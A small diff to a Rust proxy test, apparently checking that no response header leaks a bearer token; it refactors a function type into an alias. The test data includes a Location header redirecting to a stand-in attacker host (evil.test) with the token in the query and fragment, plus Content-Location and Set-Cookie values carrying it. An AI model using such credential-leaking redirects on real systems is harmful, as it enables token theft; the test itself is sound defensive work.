@@ -60,10 +60,13 @@ async fn heard1(proxy: &Proxy, lines: &str) -> String {
     String::from_utf8_lossy(&raw.rest().await.0).into_owned()
 }
 
+/// What a header says of the credential.
+type Spoken = fn(&str) -> String;
+
 #[tokio::test]
 async fn no_line_of_an_answer_tells_the_credential() {
     let key = |request: &Request| request.all("authorization")[0].trim_start_matches("Bearer ").to_owned();
-    let lines: [(&str, fn(&str) -> String); 14] = [
+    let lines: [(&str, Spoken); 14] = [
         ("Location", |k| format!("https://evil.test/?token={k}#{k}")),
         ("Content-Location", |k| format!("/{k}")),
         ("Set-Cookie", |k| format!("session={k}; Path=/; HttpOnly")),
